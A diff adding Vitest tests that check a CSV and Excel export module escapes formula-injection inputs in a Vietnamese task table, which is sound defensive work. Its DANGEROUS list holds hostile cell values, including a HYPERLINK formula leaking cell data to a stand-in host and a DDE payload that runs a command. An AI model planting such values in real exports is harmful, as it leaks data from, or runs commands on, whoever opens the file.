@@ -1,0 +1,88 @@
+import { describe, expect, it } from 'vitest';
+import ExcelJS from 'exceljs';
+import Papa from 'papaparse';
+import { FORMULA_START, toCsv, toXlsx, type ExportTable } from './spreadsheet';
+
+const DANGEROUS = [
+  '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
+  '+1+2',
+  '-2+3',
+  '@SUM(1,2)',
+  '=1+1\nxuống dòng',
+  '\t=1+1',
+  '＝1+1',
+  '=cmd|\' /C calc\'!A0',
+];
+
+const table: ExportTable = {
+  sheetName: 'Nhiệm vụ: tháng 11/2026',
+  columns: [
+    { header: 'STT', kind: 'text' },
+    { header: 'Nhiệm vụ', kind: 'text' },
+    { header: 'Thời hạn', kind: 'date' },
+    { header: 'Tiến độ (%)', kind: 'number' },
+    { header: 'Số ngày quá hạn', kind: 'number' },
+  ],
+  rows: [
+    ['1.1', 'Cải cách thủ tục hành chính, "một cửa"; liên thông', '2026-11-30', 80, null],
+    ...DANGEROUS.map((title, i) => [`2.${i + 1}`, title, null, 0, -5] as const).map((r) => [...r]),
+  ],
+};
+
+describe('CSV export', () => {
+  it('prefixes text that a spreadsheet would read as a formula, and keeps everything else as written', async () => {
+    const csv = await toCsv(table);
+    expect(csv.startsWith('\uFEFF')).toBe(true);
+    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
+    expect(parsed.errors).toEqual([]);
+    const [header, first, ...rest] = parsed.data;
+    expect(header).toEqual(['STT', 'Nhiệm vụ', 'Thời hạn', 'Tiến độ (%)', 'Số ngày quá hạn']);
+    expect(first).toEqual(['1.1', 'Cải cách thủ tục hành chính, "một cửa"; liên thông', '30/11/2026', '80', '']);
+    rest.forEach((row, i) => {
+      expect(row[1]).toBe(`'${DANGEROUS[i]}`);
+      // no cell the spreadsheet reads as a formula
+      row.forEach((cell) => {
+        if (typeof cell === 'string' && cell !== '-5') expect(FORMULA_START.test(cell)).toBe(false);
+      });
+      // numbers stay numbers (a negative number is not text)
+      expect(row[4]).toBe('-5');
+    });
+  });
+});
+
+describe('Excel export', () => {
+  it('writes dangerous titles as plain text cells, never formulas, and dates as dates', async () => {
+    const buffer = await toXlsx(table);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(buffer);
+    const sheet = workbook.worksheets[0]!;
+    expect(sheet.name).toBe('Nhiệm vụ  tháng 11 2026');
+    expect(sheet.getRow(1).getCell(2).value).toBe('Nhiệm vụ');
+    expect(sheet.rowCount).toBe(1 + table.rows.length);
+
+    const first = sheet.getRow(2);
+    expect(first.getCell(2).value).toBe('Cải cách thủ tục hành chính, "một cửa"; liên thông');
+    const due = first.getCell(3);
+    expect(due.type).toBe(ExcelJS.ValueType.Date);
+    expect((due.value as Date).toISOString().slice(0, 10)).toBe('2026-11-30');
+    expect(due.numFmt).toBe('dd/mm/yyyy');
+    expect(first.getCell(4).value).toBe(80);
+
+    DANGEROUS.forEach((title, i) => {
+      const cell = sheet.getRow(3 + i).getCell(2);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+      expect(cell.value).toBe(title);
+    });
+    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
+  });
+
+  it('the file itself holds no formula element', async () => {
+    const buffer = await toXlsx(table);
+    // An xlsx is a zip; the sheet XML must not contain <f> (formula) elements.
+    const JSZip = (await import('jszip')).default;
+    const zip = await JSZip.loadAsync(buffer);
+    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
+    expect(sheetXml).not.toMatch(/<f[\s>]/);
+  });
+});
